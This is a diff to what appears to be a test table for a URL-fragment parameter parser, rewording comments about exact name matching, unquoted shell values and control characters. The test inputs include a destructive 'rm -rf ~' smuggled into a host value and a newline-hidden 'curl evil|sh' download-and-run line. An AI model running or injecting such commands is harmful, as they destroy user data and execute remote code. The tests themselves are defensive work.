@@ -33,16 +33,16 @@ const READ: Readonly<
   '#process+id=7': [[['process id', '7']], []],
   '#process%20id=7': [[['process id', '7']], []],
   '#__proto__=x': [[['__proto__', 'x']], []],
-  // A name is that of the placeholder to the letter; others count for nothing.
+  // Names must match exactly; others are ignored.
   '#Host=a&hos=b& host=c&constructor=d': [[], []],
   '#host=first&host=second': [[['host', 'first']], []],
   '#host=&port=1': [[['port', '1']], []],
   '#host=a=b%26c%23d%2Be+f': [[['host', 'a=b&c#d+e f']], []],
-  // Nothing is quoted for the shell: it is shown as it is, as what somebody types is.
+  // Values aren't quoted for the shell. They appear as they are, like typed ones.
   '#host=x%3B%20rm%20-rf%20~': [[['host', 'x; rm -rf ~']], []],
-  // Shown and named in the line, as in every line that deceives.
+  // Shown and named in the line, like all deceptive characters.
   '#host=%E2%80%AEmoc.live': [[['host', '\u202emoc.live']], []],
-  // Keys to a terminal, or damaged.
+  // Control characters that a terminal would act on, or damaged.
   '#host=db1%0Acurl+evil|sh&port=1': [[['port', '1']], ['host']],
   '#host=%0D': [[], ['host']],
   '#host=%09': [[], ['host']],
